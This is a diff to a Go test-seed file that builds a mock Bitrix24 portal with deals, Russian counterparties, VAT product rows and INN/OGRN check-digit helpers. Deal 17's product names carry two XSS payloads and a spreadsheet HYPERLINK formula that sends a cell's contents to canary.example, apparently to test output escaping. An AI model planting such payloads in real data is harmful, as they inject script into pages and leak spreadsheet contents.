@@ -1,12 +1,15 @@
 package main
 
 import (
+	"crypto/sha256"
+	"encoding/hex"
 	"fmt"
+	"strconv"
 
 	"acts24/integrations/bitrix24/bitrix24test"
 )
 
-// The people of the seed.
+// The users of the seed.
 const (
 	seedAdmin      = 1
 	seedManager    = 2
@@ -15,7 +18,7 @@ const (
 	seedHead       = 5
 )
 
-// Counterparty is a party of the seed as an EDO operator knows it. An ИП has the parts of a name and no KPP.
+// Counterparty is a party of the seed as an EDO operator reports it. An ИП has the parts of a name and no KPP.
 type Counterparty struct {
 	INN, KPP, Name                  string
 	LastName, FirstName, MiddleName string
@@ -23,7 +26,7 @@ type Counterparty struct {
 	Own                             bool   // one of our own legal entities
 }
 
-// Counterparties lists every party of the seed that has an INN, our own last.
+// Counterparties returns every party of the seed that has an INN, our own last.
 func Counterparties() []Counterparty {
 	var out []Counterparty
 	for _, p := range append(seedClients(), seedOwn()...) {
@@ -40,10 +43,11 @@ func Counterparties() []Counterparty {
 	return out
 }
 
-// seedPortal fills an empty portal with people, pipelines, parties and thirty deals; twice the same.
+// seedPortal fills an empty portal with users, pipelines, parties and thirty deals. Every call gives the same data.
 func seedPortal(p *bitrix24test.Portal) {
 	seedPeople(p)
 	seedPipelines(p)
+	p.AddUserField(bitrix24test.UserField{EntityID: "CRM_DEAL", Name: contractField, Kind: "string", Label: "Договор"})
 	own := [2]int64{}
 	for i, party := range seedOwn() {
 		_, own[i] = putParty(p, party)
@@ -97,7 +101,7 @@ func seedPipelines(p *bitrix24test.Portal) {
 	}
 }
 
-// seedDeals puts the deals one by one, their clients with them.
+// seedDeals adds the deals with their clients.
 func seedDeals(p *bitrix24test.Portal, own [2]int64) {
 	clients := seedClients()
 	cards, requisites := make([]int64, len(clients)), make([]int64, len(clients))
@@ -123,7 +127,8 @@ func seedDeals(p *bitrix24test.Portal, own [2]int64) {
 	}
 }
 
-// dealClient chooses the client: one each for the first deals, then those with something missing, then again from the first.
+// dealClient returns the index of a deal's client: first each client once, then those with missing data, then
+// from the beginning again.
 func dealClient(n, clients int) int {
 	if n <= clients {
 		return n - 1
@@ -148,7 +153,7 @@ func dealFields(n int, client seedParty, card int64) bitrix24test.Fields {
 	}
 	f := bitrix24test.Fields{
 		"title": dealTitle(n, client), "categoryId": category, "stageId": stage, "assignedById": responsible(n),
-		"comments": fmt.Sprintf("Договор № %d/26 от 12.01.2026", 100+n), "currencyId": "RUB",
+		"comments": fmt.Sprintf("Договор № %d/26 от 12.01.2026", 100+n), "currencyId": "RUB", "ufCrmContract": dealContract(n),
 	}
 	if category > 0 {
 		f["stageId"] = "C1:" + stage
@@ -159,7 +164,7 @@ func dealFields(n int, client seedParty, card int64) bitrix24test.Fields {
 		f["companyId"] = card
 	}
 	if client.Box != "" {
-		f["ufCrmActsOperator"], f["ufCrmActsParticipant"] = operatorTitle(client.Box), client.Box
+		f["ufCrmDealActsOperator"], f["ufCrmDealActsParticipant"] = operatorTitle(client.Box), client.Box
 	}
 	if n == 15 || n == 16 || n == 26 { // no rows: the sum is entered by hand
 		f["opportunity"], f["isManualOpportunity"] = 85000.0+float64(n), "Y"
@@ -168,6 +173,20 @@ func dealFields(n int, client seedParty, card int64) bitrix24test.Fields {
 		f["currencyId"] = "USD"
 	}
 	return f
+}
+
+// contractField is the deal field that names the contract.
+const contractField = "UF_CRM_CONTRACT"
+
+// dealContract returns the value of contractField: usually a complete contract, sometimes nothing or a remark.
+func dealContract(n int) string {
+	switch {
+	case n == 9:
+		return fmt.Sprintf("по договору %d/26", 100+n)
+	case n%7 == 5:
+		return ""
+	}
+	return fmt.Sprintf("Договор № %d/26 от 12.01.2026", 100+n)
 }
 
 func operatorTitle(box string) string {
@@ -189,9 +208,131 @@ func dealTitle(n int, client seedParty) string {
 	return what + ": " + name
 }
 
+// responsible returns the manager, who works with the acts of his deals; one deal belongs to his head, and
+// its acts are invisible to the manager.
 func responsible(n int) int64 {
-	if n > 10 && n%4 == 0 {
+	if n == 27 {
 		return seedHead
 	}
 	return seedManager
+}
+
+func vat(percent float64) *float64 { return &percent }
+
+// service returns a usual row: a price with VAT of 22 %.
+func service(name string, price, count float64) bitrix24test.Row {
+	return bitrix24test.Row{Name: name, Price: price, Quantity: count, TaxRate: vat(22), TaxIncluded: true, Measure: 796}
+}
+
+// withRate returns the row with another VAT rate; nil means without VAT.
+func withRate(r bitrix24test.Row, rate *float64) bitrix24test.Row {
+	r.TaxRate, r.TaxIncluded = rate, rate != nil
+	return r
+}
+
+// seedRows maps deal numbers to product rows; other deals have three usual rows.
+var seedRows = map[int][]bitrix24test.Row{
+	1: {
+		service("Подбор зарубежных покупателей", 12200, 3),
+		service("Перевод каталога на английский язык", 1830, 24),
+		service("Организация деловой миссии в Дубай", 244000, 2),
+		withRate(service("Справочная информация по рынку", 5000, 2), nil),
+	},
+	2: {
+		withRate(service("Размещение на торговой площадке", 15000, 2), nil),
+		withRate(service("Фотосъёмка продукции", 900, 12), nil),
+	},
+	3: {
+		{Name: "Участие в выставке «Gulfood»: аренда стенда", Price: 439200, Quantity: 1, TaxRate: vat(22), TaxIncluded: true, DiscountRate: 10, Measure: 796},
+		{Name: "Доставка образцов", Price: 1037.5, Quantity: 12.345, TaxRate: vat(22), TaxIncluded: true, Measure: 166},
+		{Name: "Застройка стенда", Price: 2745.33, Quantity: 36.5, TaxRate: vat(22), Measure: 55},
+	},
+	4: {
+		withRate(service("Консультация по сертификации", 3200, 5), vat(5)),
+		withRate(service("Подготовка договора", 10700, 1), vat(7)),
+	},
+	5: {
+		withRate(service("Дегустационные наборы", 550, 200), vat(10)),
+		{Name: "Разработка упаковки", Price: 97600, Quantity: 1, TaxRate: vat(22), TaxIncluded: true, DiscountSum: 5000, Measure: 796},
+	},
+	6: {withRate(service("Ведение кабинета на площадке, месяц", 25000, 3), nil)},
+	7: {service("Поиск дистрибьютора в Индии", 183000, 1), withRate(service("Экспортная перевозка", 96000, 1), vat(0))},
+	8: {withRate(service("Обучение персонала, час", 2100.1, 7.5), vat(5))},
+	9: {
+		service("Регистрация товарного знака", 61000, 2), service("Патентный поиск", 18300.07, 3),
+		withRate(service("Лекарственные образцы", 1100, 33), vat(10)),
+	},
+	10: {withRate(service("Составление бизнес-плана", 45000, 1), nil), withRate(service("Расчёт логистики", 333.33, 3), nil)},
+	11: {
+		service("Очень длинное название услуги № 1 «с кавычками „внутри“» — подготовка полного комплекта экспортных документов, включая перевод, нотариальное заверение, апостиль, оформление сертификата происхождения формы СТ-1 и доставку в посольство 📦 ёмкостью до 100 листов", 15250, 1),
+		service(`Услуга "с прямыми кавычками" & <угловыми скобками>`, 100, 1),
+	},
+	12: {withRate(service("Маркетинговое исследование (договор 2025 года)", 120000, 1), vat(20)), withRate(service("Печать буклетов", 60, 1000), vat(20))},
+	13: {service("Смета по старой ставке", 12000, 1), withRate(service("Консультация по старой ставке", 6000, 2), vat(20))},
+	14: manyRows(64),
+	15: {},
+	16: {},
+	17: {service("<script>alert('строка')</script>", 1220, 1), service(`"><img src=x onerror=alert(2)>`, 2440, 2), service("=HYPERLINK(\"http://canary.example/\"&A1)", 610, 1)},
+	26: {},
+}
+
+// manyRows returns n rows, more than one page of the portal's list.
+func manyRows(n int) []bitrix24test.Row {
+	rates := []*float64{vat(22), vat(10), vat(7), vat(5), vat(0), nil}
+	var out []bitrix24test.Row
+	for i := range n {
+		out = append(out, withRate(service(fmt.Sprintf("Поставка образца № %d", i+1), 122.5+float64(i)*3.37, float64(i%5)+0.5), rates[i%len(rates)]))
+	}
+	return out
+}
+
+func usualRows(n int) []bitrix24test.Row {
+	return []bitrix24test.Row{
+		service("Сопровождение экспортной сделки", 30500+float64(n)*610, 1), service("Перевод документов, страница", 610, float64(4+n)),
+		withRate(service("Справка о рынке", 2500, 1), nil),
+	}
+}
+
+// inn10 appends the check digit to the nine digits of a legal entity's INN.
+func inn10(base string) string { return base + checkDigit(base, 2, 4, 10, 3, 5, 9, 4, 6, 8) }
+
+// inn12 appends the check digits to the ten digits of a person's INN.
+func inn12(base string) string {
+	eleven := base + checkDigit(base, 7, 2, 4, 10, 3, 5, 9, 4, 6, 8)
+	return eleven + checkDigit(eleven, 3, 7, 2, 4, 10, 3, 5, 9, 4, 6, 8)
+}
+
+func checkDigit(base string, weights ...int) string {
+	sum := 0
+	for i, w := range weights {
+		sum += w * int(base[i]-'0')
+	}
+	return strconv.Itoa(sum % 11 % 10)
+}
+
+// ogrn appends the check digit (remainder of the division by 11 or 13) to twelve digits (legal entity) or fourteen (ИП).
+func ogrn(base string) string {
+	n, err := strconv.ParseUint(base, 10, 64)
+	if err != nil {
+		panic(err)
+	}
+	modulus := uint64(11)
+	if len(base) == 14 {
+		modulus = 13
+	}
+	return base + strconv.FormatUint(n%modulus%10, 10)
+}
+
+// sbisBox returns a participant id in the format of SBIS: 2BE and 32 hexadecimal digits.
+func sbisBox(inn string) string {
+	sum := sha256.Sum256([]byte("box " + inn))
+	return "2BE" + hex.EncodeToString(sum[:16])
+}
+
+// diadocBox returns a participant id in the format of Diadoc.
+func diadocBox(inn, kpp string) string {
+	if kpp == "" {
+		return fmt.Sprintf("2BM-%s--2016072812271194308390000000", inn)
+	}
+	return fmt.Sprintf("2BM-%s-%s-201904121015", inn, kpp)
 }
